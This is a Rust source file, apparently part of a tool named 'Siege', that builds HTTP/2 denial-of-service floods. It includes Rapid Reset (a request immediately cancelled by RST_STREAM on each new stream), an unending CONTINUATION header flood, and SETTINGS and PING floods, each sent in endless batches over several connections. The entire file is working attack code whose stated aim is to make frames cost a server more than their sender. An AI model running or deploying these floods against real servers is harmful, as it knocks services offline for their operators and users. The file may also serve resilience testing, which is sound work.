//! HTTP/2 frames that cost a server more than their sender.

use tokio::task::JoinSet;

use crate::frames::{
    CONTINUATION, Connection, END_HEADERS, END_STREAM, HEADERS, PING, RST_STREAM, SETTINGS, field,
    fields, frame, stream,
};

use super::{Attack, Siege};

/// Connections of a flood.
const CONNECTIONS: usize = 4;

/// Frames that are sent at once.
const FRAMES: u32 = 200;

/// The reason of a stream that its client cancels (RFC 9113, section 7).
const CANCEL: [u8; 4] = [0, 0, 0, 8];

/// Sends the frames of a flood.
pub fn send(siege: &Siege, tasks: &mut JoinSet<()>, attack: Attack) {
    siege.again(tasks, CONNECTIONS, move |siege, _| async move {
        let connection = Connection::open(siege.means.address).await?;
        if attack == Attack::Continuation {
            let fields = fields("GET", "/api/v1/openapi.json", None);
            let begun = frame(HEADERS, END_STREAM, stream(0), &fields);
            connection.send(&begun).await?;
        }
        for batch in 0.. {
            connection.send(&frames(attack, batch)).await?;
            siege.add("frames", u64::from(FRAMES));
        }
        Ok(())
    });
}

fn frames(attack: Attack, batch: u32) -> Vec<u8> {
    let frames = (0..FRAMES).map(|index| match attack {
        Attack::RapidReset => {
            let stream = stream(batch * FRAMES + index);
            let fields = fields("GET", "/api/v1/openapi.json", None);
            let asked = frame(HEADERS, END_STREAM | END_HEADERS, stream, &fields);
            [asked, frame(RST_STREAM, 0, stream, &CANCEL)].concat()
        }
        Attack::Continuation => {
            let field = field("x-a", &"b".repeat(100));
            frame(CONTINUATION, 0, stream(0), &field)
        }
        Attack::Settings => frame(SETTINGS, 0, 0, &[]),
        _ => frame(PING, 0, 0, &[7; 8]),
    });
    frames.collect::<Vec<_>>().concat()
}
